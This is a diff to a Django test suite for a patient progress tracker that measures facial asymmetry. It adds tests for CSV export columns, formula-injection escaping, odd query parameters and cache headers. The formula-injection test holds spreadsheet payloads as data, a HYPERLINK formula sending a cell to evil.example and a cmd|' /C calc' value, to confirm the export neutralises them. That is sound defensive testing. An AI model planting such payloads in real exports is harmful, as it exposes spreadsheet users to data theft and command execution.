@@ -188,8 +188,8 @@ def test_exports_hold_measurements_grades_questionnaires_and_treatments(client, 
     assert response["Content-Type"].startswith("text/csv")
     assert "attachment" in response["Content-Disposition"]
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
-    assert list(rows[0]) == ["kind", "date", "visit", "photo", "expression", "instrument", "name",
-                             "left", "right", "deviation", "asymmetry_pct", "value", "notes"]
+    assert list(rows[0]) == ["kind", "date", "visit", "photo", "expression", "instrument", "name", "label", "unit",
+                             "definition", "left", "right", "deviation", "asymmetry_pct", "value", "reliable", "notes"]
     by_kind: dict[str, list[dict[str, str]]] = {}
     for row in rows:
         by_kind.setdefault(row["kind"], []).append(row)
@@ -201,8 +201,10 @@ def test_exports_hold_measurements_grades_questionnaires_and_treatments(client, 
     assert neutral == {
         "kind": "measure", "date": "2026-01-10", "visit": str(visit.pk), "photo": str(visit.photos.first().pk),
         "expression": "neutral",
-        "instrument": "", "name": "commissure_height", "left": "63.5", "right": "60.0", "deviation": "3.5",
-        "asymmetry_pct": str(3.5 / 60 * 100), "value": "", "notes": "",
+        "instrument": "", "name": "commissure_height", "label": "mouth corner height", "unit": "mm",
+        "definition": "From the line through both pupils straight down to the corner of the mouth.",
+        "left": "63.5", "right": "60.0", "deviation": "3.5",
+        "asymmetry_pct": str(3.5 / 60 * 100), "value": "", "reliable": "yes", "notes": "",
     }
     assert {(r["name"], r["value"]) for r in by_kind["grade"]} >= {("total", "70.0"), ("affected_side", "left")}
     assert {(r["instrument"], r["name"], r["value"]) for r in by_kind["questionnaire_answer"]} == {
@@ -305,3 +307,38 @@ def test_form_pages_query_counts(client, patient, django_assert_num_queries, nam
     client.get(reverse(name, kwargs=kwargs))  # warm the session cache
     with django_assert_num_queries(queries):
         assert client.get(reverse(name, kwargs=kwargs)).status_code == 200
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, patient):
+    import csv
+    import io
+
+    measured_visit(patient, D(2026, 1, 10), corner_dev=-1.5, total=70.0)
+    for lead in ("=", "+", "-", "@"):
+        Treatment.objects.create(patient=patient, kind="other", date=D(2026, 3, 2),
+                                 label=f'{lead}HYPERLINK("http://evil.example/?"&A1,"x")', notes=f"{lead}cmd|' /C calc'!A0")
+    client.force_login(patient)
+    rows = list(csv.DictReader(io.StringIO(client.get(reverse("progress:export_csv")).content.decode())))
+    treatments = [r for r in rows if r["kind"] == "treatment"]
+    assert len(treatments) == 4
+    for row in treatments:
+        assert row["value"].startswith("'") and row["value"][1] in "=+-@"
+        assert row["notes"].startswith("'")
+    # Numbers stay numbers: a negative measure is not turned into text.
+    measure = next(r for r in rows if r["kind"] == "measure" and r["name"] == "commissure_height")
+    assert float(measure["left"]) == 58.5
+    assert any(r["deviation"] == "-1.5" for r in rows if r["kind"] == "measure")
+
+
+@pytest.mark.parametrize("value", ["%C2%B2", "%D9%A3", "1e3", "-1", "", "9" * 40])
+def test_questionnaire_with_a_strange_visit_parameter_is_not_a_500(client, patient, value):
+    client.force_login(patient)
+    response = client.get(reverse("progress:outcome_new", kwargs={"slug": "saq"}) + f"?visit={value}")
+    assert response.status_code == 200
+
+
+def test_progress_pages_are_never_cached(client, patient):
+    client.force_login(patient)
+    for name, kwargs in PAGES:
+        response = client.get(reverse(name, kwargs=kwargs))
+        assert response["Cache-Control"] == "private, no-store", name
